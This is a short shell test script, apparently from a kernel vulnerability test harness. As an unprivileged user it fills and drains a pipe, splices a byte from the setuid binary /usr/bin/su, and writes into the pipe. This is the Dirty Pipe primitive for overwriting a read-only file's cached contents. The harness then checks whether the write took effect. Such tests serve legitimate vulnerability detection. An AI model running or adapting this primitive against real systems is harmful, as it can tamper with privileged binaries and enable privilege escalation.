#!/bin/sh
. /opt/case/case.sh

setpriv --reuid 33 --regid 33 --clear-groups python3 -c '
import fcntl, os
reader, writer = os.pipe()
size = fcntl.fcntl(writer, 1032)
os.write(writer, b"x" * size)
assert len(os.read(reader, size)) == size
program = os.open("/usr/bin/su", os.O_RDONLY)
assert os.splice(program, writer, 1, offset_src=0) == 1
os.write(writer, b"y")'
took_place
